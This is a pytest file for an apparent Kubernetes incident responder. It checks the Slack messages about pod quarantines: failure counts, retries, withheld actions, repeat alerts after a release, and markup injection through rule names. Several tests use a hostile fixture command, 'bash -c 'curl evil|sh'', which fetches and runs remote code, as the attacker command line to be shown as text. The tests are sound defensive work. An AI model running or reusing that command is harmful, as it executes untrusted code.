"""What the on-call review asked of Slack's words (its H1, H2, M2): a quarantine that keeps failing
is one line with its count, not one per try; a retry after a failure says it had failed; the last
automatic try still withheld says nothing more is tried and gives the command; the first repeat
after a release shows what it ran, as text, with the command to quarantine again."""

from __future__ import annotations

import dataclasses

import pytest
from hypothesis import HealthCheck, given, settings

from responder.actions.outcome import ActionOutcome, OutcomeStatus
from responder.cluster.verify import Verification, VerificationStatus
from responder.config import ActionName
from responder.incident import TRIES_OVER, AlertingAfterRelease, CommandForm, IncidentReport
from responder.notify.blocks import format_utc
from responder.notify.render import MessageKind, render_incident, render_repeat, render_retry
from tests.notify.slack_fixtures import BASE_FIELDS, make_alert, make_decision, make_report, visible_text
from tests.notify.test_lapse_render import assert_no_markup
from tests.notify.test_slack_render import HOSTILE_TEXT, assert_valid, headline_of

INCIDENT = "inc-0123456789abcdef0123"
T0 = 1_738_058_415_000_000_000  # 2025-01-28 10:00:15 UTC
PATCH_500 = "PATCH /api/v1/namespaces/ml/pods/triton-0: HTTP 500: injected fault"
API_DOWN = "pod lookup failed: GET /api/v1/namespaces/ml/pods/triton-0: HTTP 503"


def failed(at_ns: int, **extra: object) -> ActionOutcome:
    return ActionOutcome(
        "quarantine", OutcomeStatus.FAILED, PATCH_500, started_ns=at_ns, finished_ns=at_ns, extra=dict(extra)
    )


# -- M2 -------------------------------------------------------------------------------------------


def test_a_quarantine_that_keeps_failing_is_one_line_with_its_count() -> None:
    tries = (failed(T0), failed(T0 + 1_000_000_000, retried=True), failed(T0 + 3_000_000_000, retried=True))
    headline = headline_of(render_incident(make_report(outcomes=tries)))
    assert headline.count("FAILED") == 1, headline
    assert headline.startswith(
        f":x: *quarantine FAILED* 3 times in a row (first at {format_utc(T0)}); the last: {PATCH_500}."
        " The pod is *not* isolated;"
    ), headline


def test_failures_of_another_action_between_do_not_split_the_count_and_a_success_ends_it() -> None:
    annotate = ActionOutcome("annotate", OutcomeStatus.FAILED, "HTTP 500", finished_ns=T0 + 1)
    headline = headline_of(render_incident(make_report(outcomes=(failed(T0), annotate, failed(T0 + 2)))))
    assert headline.count("*quarantine FAILED* 2 times in a row") == 1, headline
    assert headline.count("*annotate FAILED*:") == 1, headline
    # A quarantine that went through after them: the failures are history, said once with their count.
    done = ActionOutcome(
        "quarantine", OutcomeStatus.QUARANTINED, "", finished_ns=T0 + 3, extra={"retried": True}
    )
    headline = headline_of(render_incident(make_report(outcomes=(failed(T0), failed(T0 + 2), done))))
    assert headline.endswith(f"_Before that:_\n• quarantine failed: {PATCH_500} (2 times)"), headline


def test_a_retry_after_a_failure_says_it_had_failed() -> None:
    again = failed(T0 + 1_000_000_000, retried=True)
    message = render_retry(INCIDENT, "ml", "triton-0", again, 5, make_decision(), before=(failed(T0), again))
    assert visible_text(message.blocks_json()).startswith(
        ":arrows_counterclockwise: *Tried again* on `ml/triton-0`, after it failed:\n:x: *quarantine FAILED*"
    )
    withheld = ActionOutcome("quarantine", OutcomeStatus.WITHHELD, API_DOWN, finished_ns=T0)
    message = render_retry(INCIDENT, "ml", "triton-0", again, 5, make_decision(), before=(withheld,))
    assert "after it was withheld:" in visible_text(message.blocks_json())


# -- H1 -------------------------------------------------------------------------------------------


def api_down_report(*outcomes: ActionOutcome) -> IncidentReport:
    return make_report(
        verification=Verification(VerificationStatus.LOOKUP_FAILED, API_DOWN),
        decision=make_decision(actions=(ActionName.NOTIFY,), withheld=(API_DOWN,)),
        outcomes=(ActionOutcome("quarantine", OutcomeStatus.WITHHELD, API_DOWN, finished_ns=T0), *outcomes),
    )


def test_the_last_try_still_withheld_says_nothing_more_is_tried_and_gives_the_command() -> None:
    over = ActionOutcome(
        "quarantine",
        OutcomeStatus.WITHHELD,
        API_DOWN,
        finished_ns=T0 + 1,
        extra={"retried": True, TRIES_OVER: 5},
    )
    report = api_down_report(over)
    command = report.quarantine_command(CommandForm("/etc/serving-guard/config.yaml"))
    assert command is not None and command.startswith(
        f"serving-guard quarantine --namespace ml triton-0 --incident {INCIDENT}"
    )
    message = render_retry(
        INCIDENT, "ml", "triton-0", over, 6, report.decision, before=report.outcomes, command=command
    )
    assert_valid(message)
    assert message.kind is MessageKind.RETRY and message.action_id == 6
    text = visible_text(message.blocks_json())
    assert text.startswith(
        ":pause_button: *Still withheld* on `ml/triton-0` after it was tried again automatically 5 times:"
        f" {API_DOWN}.\n*Nothing more is tried* unless the alert repeats: the pod is *not* isolated.\n"
        "*To quarantine it by hand* once you have looked"
    ), text
    assert "serving-guard quarantine --namespace ml triton-0" in text
    headline = headline_of(render_incident(report))
    assert headline.endswith(
        "tried it again by itself 5 times, still withheld: *nothing more is tried* unless"
        " this alert repeats. Quarantine it by hand with the command below."
    ), headline


def test_a_pod_not_found_or_a_dry_run_gets_no_command_for_a_withheld_quarantine() -> None:
    report = api_down_report()
    assert report.quarantine_command() is not None
    gone = dataclasses.replace(
        report, verification=Verification(VerificationStatus.POD_NOT_FOUND, "not found")
    )
    assert gone.quarantine_command() is None
    assert "tries it again by itself" not in headline_of(render_incident(gone))


# -- H2 -------------------------------------------------------------------------------------------


def released_report(cmdline: str) -> IncidentReport:
    alert = make_alert({**BASE_FIELDS, "proc.cmdline": cmdline})
    released = ActionOutcome(
        "release",
        OutcomeStatus.RELEASED,
        "released by bob: it was me",
        finished_ns=T0 + 1,
        extra={"by_hand": "bob", "reason": "it was me"},
    )
    report = make_report(
        outcomes=(ActionOutcome("quarantine", OutcomeStatus.QUARANTINED, "", finished_ns=T0), released)
    )
    return dataclasses.replace(
        report, after_release=AlertingAfterRelease(T0 + 1, "bob", alert, T0 + 60_000_000_000)
    )


def test_the_first_repeat_after_a_release_shows_what_it_ran_and_the_command_again() -> None:
    report = released_report("bash -c 'curl evil|sh'")
    message = render_repeat(report, CommandForm("/etc/serving-guard/config.yaml"))
    assert_valid(message)
    assert message.kind is MessageKind.REPEAT
    text = visible_text(message.blocks_json())
    assert text.startswith(
        f":rotating_light: *Still alerting after its release*: `ml/triton-0` was released by *bob* at"
        f" {format_utc(T0 + 1)}, and `Shell in serving pod` fired again at {format_utc(T0 + 60_000_000_000)}."
        " It is *not* quarantined again by itself: later repeats are counted here."
    ), text
    assert ":repeat: Seen *once*" in text
    assert "```bash -c 'curl evil|sh'```" in text
    assert f"serving-guard quarantine --namespace ml triton-0 --incident {INCIDENT}" in text


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(cmdline=HOSTILE_TEXT)
def test_a_hostile_command_line_after_a_release_reaches_slack_as_text(cmdline: str) -> None:
    report = released_report(cmdline)
    message = render_repeat(report)
    assert_valid(message)
    assert_no_markup(message)


def test_a_quarantine_by_hand_after_the_release_brings_back_the_plain_counter() -> None:
    report = released_report("bash -c 'curl evil|sh'")
    again = ActionOutcome(
        "quarantine", OutcomeStatus.QUARANTINED, "", finished_ns=T0 + 2, extra={"by_hand": "carol"}
    )
    report = dataclasses.replace(report, outcomes=(*report.outcomes, again))
    text = visible_text(render_repeat(report).blocks_json())
    assert text.startswith(":repeat: Seen *once*"), text
    assert "Still alerting" not in text


@pytest.mark.parametrize(
    ("cut", "leaking", "said"),
    [
        (None, ["ingress"], "but only egress is cut; its ingress (requests to it) is still allowed by:"),
        (
            None,
            ["egress"],
            "but only ingress is cut; its egress (exfiltration, a reverse shell, downloads) is still allowed"
            " by: `gw`",
        ),
        (
            None,
            ["egress", "ingress"],
            "but its egress (exfiltration, a reverse shell, downloads) and its ingress (requests to it) are"
            " still allowed by: `gw`",
        ),
        ("egress", ["egress"], "but its egress (exfiltration, a reverse shell, downloads) is still allowed"),
    ],
)
def test_a_leaky_quarantine_says_what_is_cut_and_what_is_still_open(
    cut: str | None, leaking: list[str], said: str
) -> None:
    """ "These NetworkPolicies still allow its traffic" read as nothing cut, when the one policy
    admitting the gateway's requests left its egress cut (no exfiltration, no reverse shell)."""
    extra: dict[str, object] = {"leaking_directions": leaking, **({"isolated": cut} if cut else {})}
    leaky = ActionOutcome("quarantine", OutcomeStatus.LEAKY, "gw allows ingress", ("gw",), extra=extra)
    message = render_incident(make_report(outcomes=(leaky,)))
    assert_valid(message)
    lead = ":warning: *LEAKY quarantine*: the pod is labelled and the deny-all policy is in place"
    assert f"{lead}, {said}" in visible_text(message.blocks_json())


def test_a_forged_rule_name_brings_no_emoji_into_the_header() -> None:
    """The header is plain_text with emoji on (ours): a shortcode in the rule showed as an emoji."""
    report = make_report(alert=make_alert(rule="Shell in serving pod :white_check_mark: resolved"))
    header = render_incident(report).blocks[0]["text"]["text"]
    assert header.endswith("Shell in serving pod \ua789white_check_mark: resolved"), header
    assert header.startswith(":rotating_light: Critical: ")  # the icon stays ours


def test_a_rule_names_colons_stay_where_they_open_no_shortcode() -> None:
    """ "Drift" with a look-alike colon matched nothing when on-call copied it into a rule exception or a
    search (review-oncall 4): only a colon that opens a `:name:` is a look-alike."""
    report = make_report(alert=make_alert(rule="Drift: new executable in serving pod"))
    header = render_incident(report).blocks[0]["text"]["text"]
    assert header.endswith(": Drift: new executable in serving pod"), header


def test_failures_are_not_listed_as_actions_finished() -> None:
    """ "actions finished: quarantine 11:16:39 UTC" read as done, for a quarantine that failed."""
    report = make_report(outcomes=(failed(T0), failed(T0 + 1_000_000_000)))
    context = visible_text(render_incident(report).blocks_json()).splitlines()[-2:]
    assert not any("actions finished" in line for line in context), context


def test_a_namespace_not_opted_in_says_what_on_call_can_do() -> None:
    """Withheld because the namespace lacks the opt-in label: no next step was given, and the
    by-hand quarantine refuses that namespace too."""
    label = "serving-guard.io/enforce"
    decision = make_decision(
        actions=(ActionName.NOTIFY,),
        withheld=(f"namespace ml is not opted in (label {label}=true is missing)",),
        opt_in_missing=label,
    )
    text = headline_of(render_incident(make_report(decision=decision)))
    assert text.endswith(
        f":information_source: The responder acts only in namespaces labelled `{label}=true`, and"
        " `serving-guard quarantine` refuses this one too: isolate the pod by your own means, or, if the"
        f" namespace should be guarded, opt it in with `kubectl label namespace ml {label}=true`"
    ), text
    assert "serving-guard quarantine --namespace" not in visible_text(
        render_incident(make_report(decision=decision)).blocks_json()
    )
